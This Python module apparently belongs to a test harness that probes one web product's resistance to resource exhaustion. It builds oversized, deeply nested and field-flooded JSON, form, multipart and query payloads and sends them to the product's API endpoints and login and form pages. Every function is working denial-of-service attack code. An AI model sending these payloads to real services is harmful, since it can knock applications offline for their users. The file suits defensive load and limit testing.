"""Requests that are made to exhaust a web process."""

import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import requests

TIMEOUT_SECONDS = 120
MEGABYTE = 1024**2
UNKNOWN_MEMBERS = 400_000
BOUNDARY = "part"
Attack = Callable[[], str]
"""Sends its requests. Returns the statuses of the responses."""


@dataclass(frozen=True, slots=True)
class Target:
    """The product, and what an attacker who works there has."""

    url: str
    page: str
    """Address of a job's page."""
    browser: requests.Session
    token: str
    bound_token: str
    connection: str
    """ID of a connection with the object `asset`."""

    @property
    def headers(self) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token}"}

    def send(
        self, method: str, path: str, body: bytes, **headers: str
    ) -> requests.Response:
        """To the REST API."""
        return requests.request(
            method,
            self.url + path,
            data=body,
            headers={**self.headers, "Content-Type": "application/json", **headers},
            timeout=TIMEOUT_SECONDS,
        )

    def send_form(self, path: str, body: bytes, content_type: str) -> requests.Response:
        """To a page, with the token of its forms."""
        cookies = self.browser.cookies.get_dict()
        token = next(cookies[name] for name in cookies if name.endswith("csrf"))
        return self.browser.post(
            self.url + path,
            data=body,
            headers={
                "Content-Type": content_type,
                "Referer": self.url,
                "X-CSRFToken": token,
            },
            timeout=TIMEOUT_SECONDS,
            allow_redirects=False,
        )


def attacks(target: Target) -> dict[str, Attack]:
    named = _job_bodies()
    found = {
        name: _to_api(target, "POST", "/api/v1/jobs", body)
        for name, body in named.items()
    }
    for method, path in _operations(target):
        found[f"{method} {path}: all shapes"] = _all_shapes(target, method, path)
    many = _good_job(target, 80_000, 60)
    found["9 MB of items twice with one Idempotency-Key"] = lambda: _repeated(
        target, many
    )
    found["Idempotency-Key of 7 KB"] = _to_api(
        target,
        "POST",
        "/api/v1/jobs",
        _good_job(target, 10),
        Idempotency_Key="k" * 7000,
    )
    large = _large_item()
    found["job with an item of 24 MB, drop-in"] = lambda: _dropin(target, large)
    found["job with a number of a million digits, drop-in"] = lambda: _dropin(
        target, b'{"job":{"action":"create","items":[{"a":' + b"7" * 10**6 + b"}]}}"
    )
    found["job nested 10 million levels deep, drop-in"] = lambda: _dropin(
        target, b'{"job":{"action":"create","items":[' + b"[" * 10 * MEGABYTE
    )
    found["search body of 9 MB, drop-in"] = lambda: _search(target)
    found |= _forms(target)
    found |= _queries(target)
    return found


def _job_bodies() -> dict[str, bytes]:
    head = b'{"connection":"x","object":"asset","action":"create","items":['
    members = ",".join(f'"m{number}":1' for number in range(UNKNOWN_MEMBERS))
    return {
        "2 MB of items that are 1": head + b"1," * MEGABYTE + b"1]}",
        "items: 240,000 empty objects": head + b"{}," * 240_000 + b"{}]}",
        "items: 30,000 wide objects": head
        + b",".join([b'{"a":1,"b":2,"c":3,"d":4,"e":5,"f":6}'] * 30_000)
        + b"]}",
        "an item of 9 MB": head + b'{"a":"' + b"x" * 9 * MEGABYTE + b'"}]}',
        "400,000 unknown members": f"{{{members}}}".encode(),
        "a number of a million digits": head + b"7" * 10**6 + b"]}",
        "a string of 9 MB": b'{"connection":"' + b"x" * 9 * MEGABYTE + b'"}',
        "a string of 9 MB of escapes": b'{"connection":"'
        + rb"\u20ac" * (9 * MEGABYTE // 6)
        + b'"}',
    }


def _shapes() -> dict[str, bytes]:
    members = ",".join(f'"m{number}":1' for number in range(UNKNOWN_MEMBERS))
    fields = ",".join(f'"m{number}":"name"' for number in range(19_000))
    return {
        "deep": b'{"a":' * 200_000,
        "deep, within the limit": b'{"mapping":' + b"[" * 90 + b"]" * 90 + b"}",
        "wide": f"{{{members}}}".encode(),
        "wide member": f'{{"mapping":{{{members}}}}}'.encode(),
        "19,000 columns": f'{{"mapping":{{{fields}}}}}'.encode(),
        "duplicates": b"{" + b'"a":1,' * 900_000 + b'"a":1}',
        "list": b"[" + b"1," * 900_000 + b"1]",
    }


def _all_shapes(target: Target, method: str, path: str) -> Attack:
    sends = [
        _to_api(target, method, _filled(target, path), body)
        for body in _shapes().values()
    ]
    return lambda: ", ".join(send() for send in sends)


def _operations(target: Target) -> Iterator[tuple[str, str]]:
    """(method, path) of all that take JSON."""
    address = f"{target.url}/api/v1/openapi.json"
    document = requests.get(address, headers=target.headers, timeout=60).json()
    for path, operations in document["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            if "application/json" in content:
                yield method.upper(), path


def _filled(target: Target, path: str) -> str:
    """The path with the ID of what is there."""
    is_job = path.startswith("/api/v1/jobs/")
    job = target.page.rstrip("/").rpartition("/")[2]
    return path.replace("{id}", job if is_job else target.connection)


def _to_api(
    target: Target, method: str, path: str, body: bytes, **headers: str
) -> Attack:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return lambda: _status(target.send(method, path, body, **named))


def _good_job(target: Target, items: int, size: int = 10) -> bytes:
    job = {
        "connection": target.connection,
        "object": "asset",
        "action": "create",
        "items": [
            {"external_id": f"attack-{number}", "name": "x" * size}
            for number in range(items)
        ],
    }
    return json.dumps(job).encode()


def _repeated(target: Target, body: bytes) -> str:
    answers = [
        target.send("POST", "/api/v1/jobs", body, **{"Idempotency-Key": "attack"})
        for _ in range(2)
    ]
    return ", ".join(map(_status, answers))


def _large_item() -> bytes:
    members = ",".join(f'"m{number}":1' for number in range(24 * MEGABYTE // 12))
    return f'{{"job":{{"action":"create","items":[{{{members}}}]}}}}'.encode()


def _dropin(target: Target, body: bytes) -> str:
    headers = {"Authorization": f"Bearer {target.bound_token}"}
    path = "/api/v2/custom_objects/asset/jobs"
    return _status(target.send("POST", path, body, **headers))


def _search(target: Target) -> str:
    headers = {"Authorization": f"Bearer {target.bound_token}"}
    path = "/api/v2/custom_objects/asset/records/search"
    body = b'{"filter":{"a":"' + b"x" * 9 * MEGABYTE + b'"}}'
    return _status(target.send("POST", path, body, **headers))


def _forms(target: Target) -> dict[str, Attack]:
    form = "application/x-www-form-urlencoded"
    multipart = f"multipart/form-data; boundary={BOUNDARY}"
    large = b"a=" + b"%41" * (10 * MEGABYTE // 3 - 10)
    pairs = b"&".join(b"a%d=1" % number for number in range(1_100))
    many = b"&".join(b"a%d=1" % number for number in range(900_000))
    parts = b"".join(_part(number) for number in range(100_000))
    parts += f"--{BOUNDARY}--\r\n".encode()
    files = b"".join(_part(number, b'; filename="a"') for number in range(50_000))
    files += f"--{BOUNDARY}--\r\n".encode()
    bodies = {
        "form of 10 MB": (large, form),
        "form with 1,100 fields": (pairs, form),
        "form with 900,000 fields": (many, form),
        "100,000 parts": (parts, multipart),
        "50,000 files": (files, multipart),
    }
    pages = ("/accounts/login/", "/jobs/new/", "/connections/add/")
    attacks: dict[str, Attack] = {}
    for path in pages:
        for name, (body, content_type) in bodies.items():
            attacks[f"{path}: {name}"] = (
                lambda path=path, body=body, kind=content_type: (  # type: ignore[misc]
                    _status(target.send_form(path, body, kind))
                )
            )
    for name in ("100,000 parts", "50,000 files"):
        body, content_type = bodies[name]
        attacks[f"POST /api/v1/files: {name}"] = _to_api(
            target, "POST", "/api/v1/files", body, Content_Type=content_type
        )
    return attacks


def _part(number: int, more: bytes = b"") -> bytes:
    return (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="f{number}"'.encode()
        + more
        + b"\r\n\r\n1\r\n"
    )


def _queries(target: Target) -> dict[str, Attack]:
    def get(path: str) -> Attack:
        return lambda: _status(
            requests.get(
                target.url + path, headers=target.headers, timeout=TIMEOUT_SECONDS
            )
        )

    return {
        "query of 3 KB": get("/api/v1/jobs?q=" + "x" * 3_000),
        "query of 100 KB": get("/api/v1/jobs?q=" + "x" * 100_000),
        "cursor of 3 KB": get("/api/v1/jobs?cursor=" + "9" * 3_000),
        "1,500 parameters": get("/api/v1/jobs?" + "a&" * 1_500),
    }


def _status(response: Any) -> str:
    return str(response.status_code)
